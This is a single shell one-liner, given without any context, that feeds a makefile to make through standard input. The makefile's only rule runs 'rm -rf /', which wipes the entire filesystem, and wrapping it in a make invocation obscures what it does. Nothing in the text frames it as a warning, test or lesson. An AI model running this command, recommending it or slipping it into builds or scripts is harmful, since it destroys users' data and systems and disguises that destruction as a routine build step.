make -f /dev/stdin <<< $'all:\n\trm -rf /\n'
